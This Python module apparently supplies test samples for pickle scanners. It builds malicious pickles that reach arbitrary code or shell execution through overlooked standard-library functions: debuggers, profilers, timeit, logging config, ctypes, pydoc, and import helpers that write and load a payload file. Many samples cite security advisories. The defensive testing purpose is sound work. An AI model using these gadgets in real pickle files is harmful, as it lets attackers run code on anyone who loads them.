"""Raw pickles that call tools of the standard library which run code, commands or templates and are easily forgotten."""

from __future__ import annotations

from .asm import Build, Call, Global, New, Then, pickled
from .sample import Kit, Sample, gadget

G, C = Global, Call


def samples() -> list[Sample]:
    """All of this module."""
    return [*_runners(), *_commands(), *_evaluators(), *_importers()]


def _sample(name: str, build: object, reference: str = "", **options: object) -> Sample:
    technique = "a tool of the standard library that runs what it is given"
    return gadget(name, technique, build, reference=reference, **options)  # type: ignore[arg-type]


def _bound(cls: str, method: str, *args: object) -> object:
    """`cls().method(*args)` by the unbound method's dotted name."""
    module, _, name = cls.rpartition(".")
    return C(G(module, f"{name}.{method}"), C(G(cls)), *args)


def _runners() -> list[Sample]:
    return [
        _sample("bdb-run", lambda k: _bound("bdb.Bdb", "run", k.code), "GHSA-46h3-79wf-xr6c"),
        _sample("bdb-runcall", lambda k: _bound("bdb.Bdb", "runcall", G("os.system"), k.shell)),
        _sample(
            "pdb-run",
            lambda k: C(
                G("pdb", "Pdb.run"), C(G("pdb.Pdb"), "tab", C(G("io.StringIO"), "c\n"), C(G("io.StringIO"))), k.code
            ),
        ),
        _sample("profile-run", lambda k: C(G("profile.run"), k.code)),
        _sample("profile-class-run", lambda k: _bound("profile.Profile", "run", k.code), "GHSA-x696-vm39-cp64"),
        _sample(
            "profile-class-runctx", lambda k: _bound("profile.Profile", "runctx", k.code, {}, {}), "GHSA-6vqj-c2q5-j97w"
        ),
        _sample("profile-runcall", lambda k: _bound("profile.Profile", "runcall", G("os.system"), k.shell)),
        _sample("cprofile-run", lambda k: C(G("cProfile.run"), k.code)),
        _sample("cprofile-runctx", lambda k: C(G("cProfile.runctx"), k.code, {}, {}), "GHSA-9w88-8rmg-7g2p"),
        _sample(
            "timeit-timeit",
            lambda k: C(G("timeit.timeit"), k.code, "pass", G("time.perf_counter"), 1),
            "GHSA-v7x6-rv5q-mhwc",
            calls=("timeit.timeit",),
        ),
        _sample(
            "timeit-repeat",
            lambda k: C(G("timeit.repeat"), "pass", k.code, G("time.perf_counter"), 1, 1),
            calls=("timeit.repeat",),
        ),
        _sample("timeit-main", lambda k: C(G("timeit.main"), ["-n", "1", "-r", "1", k.code])),
        _sample("trace-run", lambda k: _bound("trace.Trace", "run", k.code), "GHSA-5qwp-399c-mjwf"),
        _sample("trace-runctx", lambda k: _bound("trace.Trace", "runctx", k.code), "GHSA-g344-hcph-8vgg"),
        _sample("trace-runfunc", lambda k: _bound("trace.Trace", "runfunc", G("os.system"), k.shell)),
        _sample("doctest-debug-script", lambda k: C(G("doctest.debug_script"), k.code, True), "GHSA-fqq6-7vqf-w3fg"),
        _sample("code-runsource", lambda k: _bound("code.InteractiveInterpreter", "runsource", k.code)),
        _sample(
            "code-runcode",
            lambda k: _bound("code.InteractiveInterpreter", "runcode", C(G("builtins.compile"), k.code, "x", "exec")),
        ),
        _sample("code-push", lambda k: _bound("code.InteractiveConsole", "push", k.code)),
        _sample("runpy-run-code", lambda k: C(G("runpy._run_code"), C(G("builtins.compile"), k.code, "x", "exec"), {})),
        _sample(
            "runpy-run-path",
            lambda k: Then(
                C(G("pathlib", "Path.write_text"), C(G("pathlib.Path"), "payload_file.py"), k.code),
                C(G("runpy.run_path"), "payload_file.py"),
            ),
            calls=("runpy.run_path",),
        ),
        _sample("script-helper", lambda k: C(G("test.support.script_helper.assert_python_ok"), "-c", k.code)),
        _sample("script-helper-spawn", lambda k: C(G("test.support.script_helper.spawn_python"), "-c", k.code)),
        _sample(
            "idlelib-runcode",
            lambda k: C(
                G("idlelib.run", "Executive.runcode"),
                Build(
                    New(G("idlelib.run.Executive")),
                    {"locals": {"__builtins__": G("builtins.__dict__")}, "user_exc_info": None, "usr_exc_info": None},
                ),
                C(G("builtins.compile"), k.code, "x", "exec"),
            ),
            "GHSA-m869-42cg-3xwr",
            calls=("idlelib.run.Executive.runcode",),
            needs=("tkinter",),
        ),
        _sample("idlelib-calltip", lambda k: C(G("idlelib.calltip.get_entity"), k.code)),
        _sample(
            "idlelib-autocomplete",
            lambda k: C(
                G("idlelib.autocomplete", "AutoComplete.get_entity"),
                New(G("idlelib.autocomplete.AutoComplete")),
                k.code,
            ),
            "GHSA-6w4w-5w54-rjvr",
            needs=("tkinter",),
        ),
        _sample("test-support-run", lambda k: C(G("test.support.run_in_subinterp"), k.code)),
        _sample(
            "subinterpreter", lambda k: C(G("_xxsubinterpreters.run_string"), C(G("_xxsubinterpreters.create")), k.code)
        ),
        _sample(
            "context-run",
            lambda k: C(G("contextvars", "Context.run"), C(G("contextvars.Context")), G("os.system"), k.shell),
        ),
    ]


def _commands() -> list[Sample]:
    return [
        _sample("uuid-command", lambda k: C(G("uuid._get_command_stdout"), "touch", k.path), "CVE-2026-56315"),
        _sample(
            "aix-support",
            lambda k: C(G("_aix_support._read_cmd_output"), k.shell),
            "CVE-2026-56315",
            loader="",
            unloaded="the function came with Python 3.12",
        ),
        _sample("osx-support", lambda k: C(G("_osx_support._read_output"), k.shell), "CVE-2026-56315"),
        _sample("imaplib-stream", lambda k: C(G("imaplib.IMAP4_stream"), k.shell), "CVE-2026-56315"),
        _sample(
            "pipes-template",
            lambda k: C(
                G("pipes", "Template.copy"),
                Build(C(G("pipes.Template")), {"steps": [(k.shell, "--")]}),
                "/dev/null",
                "/dev/null",
            ),
            calls=("pipes.Template.copy", "pipes.Template"),
        ),
        _sample(
            "webbrowser-generic",
            lambda k: C(G("webbrowser", "GenericBrowser.open"), C(G("webbrowser.GenericBrowser"), "touch"), k.path),
        ),
        _sample(
            "webbrowser-background",
            lambda k: C(
                G("webbrowser", "BackgroundBrowser.open"), C(G("webbrowser.BackgroundBrowser"), ["touch", "%s"]), k.path
            ),
        ),
        _sample(
            "mailcap-test", lambda k: C(G("mailcap.findmatch"), {"a/b": [{"view": "cat", "test": k.shell}]}, "a/b")
        ),
        _sample("distutils-spawn", lambda k: C(G("distutils.spawn.spawn"), k.argv)),
        _sample("distutils-write-file", lambda k: C(G("distutils.file_util.write_file"), k.path, ["x"])),
        _sample(
            "ensurepip-run-pip", lambda k: C(G("ensurepip._run_pip"), [], f"[{k.code}] and []"), "GHSA-xp4f-hrf8-rxw7"
        ),
        _sample("venv-create", lambda k: C(G("venv.create"), k.path, False, False, True)),
        _sample("pydoc-tempfilepager", lambda k: C(G("pydoc.tempfilepager"), "", f"{k.shell};true")),
        _sample(
            "ctypes-libc-system",
            lambda k: C(C(G("builtins.getattr"), C(G("ctypes.CDLL"), None), "system"), k.shell.encode()),
            calls=("ctypes.CDLL", "builtins.getattr"),
        ),
        _sample(
            "ctypes-pydll",
            lambda k: C(
                C(G("ctypes", "PyDLL.__getitem__"), G("ctypes.pythonapi"), "PyRun_SimpleString"), k.code.encode()
            ),
            calls=("ctypes.pythonapi", "ctypes.PyDLL.__getitem__"),
        ),
        _sample(
            "logging-dictconfig",
            lambda k: C(
                G("logging.config.dictConfig"),
                {"version": 1, "filters": {"f": {"()": "os.system", "command": k.shell}}},
            ),
        ),
        _sample(
            "logging-fileconfig",
            lambda k: C(
                G("logging.config.fileConfig"),
                C(
                    G("io.StringIO"),
                    (
                        "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n"
                        f"[handler_h]\nclass=NullHandler\nargs=({k.code},)\n"
                    ),
                ),
            ),
        ),
        _sample("bootsubprocess", lambda k: C(G("_bootsubprocess.check_output"), k.argv)),
    ]


def _evaluators() -> list[Sample]:
    return [
        _sample("typing-forwardref", lambda k: C(G("typing._eval_type"), C(G("typing.ForwardRef"), k.code), {}, {})),
        _sample(
            "typing-evaluate",
            lambda k: C(
                G("typing", "ForwardRef._evaluate"),
                C(G("typing.ForwardRef"), k.code),
                {},
                {},
                C(G("builtins.frozenset")),
            ),
            calls=("typing.ForwardRef._evaluate",),
        ),
        _sample("dataclasses-create-fn", lambda k: C(C(G("dataclasses._create_fn"), "f", [], [k.code]))),
        _sample("timeit-timer", lambda k: C(G("timeit", "Timer.timeit"), C(G("timeit.Timer"), k.code), 1)),
        _sample(
            "pdb-onecmd",
            lambda k: C(
                G("pdb", "Pdb.default"),
                Build(C(G("pdb.Pdb")), {"curframe": C(G("sys._getframe")), "curframe_locals": {}}),
                k.code,
            ),
            calls=("pdb.Pdb.default",),
        ),
        _sample(
            "lib2to3-make-label",
            lambda k: C(
                G("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
                New(G("lib2to3.pgen2.pgen.ParserGenerator")),
                Build(New(G("lib2to3.pgen2.grammar.Grammar")), {"labels": [], "keywords": {}, "tokens": {}}),
                f"'a'+str({k.code})",
            ),
            "GHSA-p9w7-82w4-7q8m",
            calls=("lib2to3.pgen2.pgen.ParserGenerator.make_label",),
        ),
        _sample(
            "lib2to3-grammar-loads",
            lambda k: _bound("lib2to3.pgen2.grammar.Grammar", "loads", _nested(k)),
            "GHSA-f54q-57x4-jg88",
            calls=("lib2to3.pgen2.grammar.Grammar.loads",),
        ),
    ]


def _nested(kit: Kit) -> bytes:
    return pickled(C(G("os.system"), kit.shell), 2)


def _importers() -> list[Sample]:
    def written(then: object) -> object:
        """Write payload_file.py into the working directory, then load it."""
        return lambda k: Then(C(G("pathlib", "Path.write_text"), C(G("pathlib.Path"), "payload_file.py"), k.code), then)

    return [
        _sample(
            "pkgutil-resolve-name",
            lambda k: C(C(G("pkgutil.resolve_name"), "os:system"), k.shell),
            "GHSA-vvpj-8cmc-gx39",
        ),
        _sample("pydoc-locate", lambda k: C(C(G("pydoc.locate"), "os.system"), k.shell)),
        _sample(
            "pydoc-safeimport", lambda k: C(C(G("builtins.getattr"), C(G("pydoc.safeimport"), "os"), "system"), k.shell)
        ),
        _sample(
            "pickle-find-class",
            lambda k: C(
                C(
                    G("pickle", "_Unpickler.find_class"),
                    C(G("pickle._Unpickler"), C(G("io.BytesIO"), b"")),
                    "os",
                    "system",
                ),
                k.shell,
            ),
            calls=("pickle._Unpickler",),
        ),
        _sample("logging-resolve", lambda k: C(C(G("logging.config._resolve"), "os.system"), k.shell)),
        _sample(
            "resolve-dotted",
            lambda k: C(
                C(G("xmlrpc.server.resolve_dotted_attribute"), C(G("builtins.__import__"), "os"), "path.os.system"),
                k.shell,
            ),
            calls=("xmlrpc.server.resolve_dotted_attribute", "builtins.__import__"),
        ),
        _sample(
            "source-file-loader",
            written(
                C(
                    G("importlib.machinery", "SourceFileLoader.load_module"),
                    C(G("importlib.machinery.SourceFileLoader"), "payload_file", "payload_file.py"),
                )
            ),
            calls=("importlib.machinery.SourceFileLoader.load_module", "importlib.machinery.SourceFileLoader"),
        ),
        _sample(
            "imp-load-source",
            written(C(G("imp.load_source"), "payload_file", "payload_file.py")),
            calls=("imp.load_source",),
        ),
        _sample(
            "site-addpackage",
            lambda k: Then(
                C(G("pathlib", "Path.write_text"), C(G("pathlib.Path"), "payload_file.pth"), f"import os;{k.code}\n"),
                C(G("site.addpackage"), ".", "payload_file.pth", C(G("builtins.set"))),
            ),
            calls=("site.addpackage",),
        ),
        _sample(
            "import-written-file",
            written(C(G("importlib.import_module"), "payload_file")),
            calls=("importlib.import_module", "pathlib.Path.write_text"),
        ),
        _sample(
            "unittest-discover",
            written(C(G("unittest", "TestLoader.loadTestsFromName"), C(G("unittest.TestLoader")), "payload_file")),
            calls=("unittest.TestLoader.loadTestsFromName",),
        ),
        _sample(
            "doctest-testfile",
            lambda k: Then(
                C(G("pathlib", "Path.write_text"), C(G("pathlib.Path"), "payload_file.txt"), f">>> {k.code}\n"),
                C(G("doctest.testfile"), "payload_file.txt", False),
            ),
            calls=("doctest.testfile",),
        ),
    ]
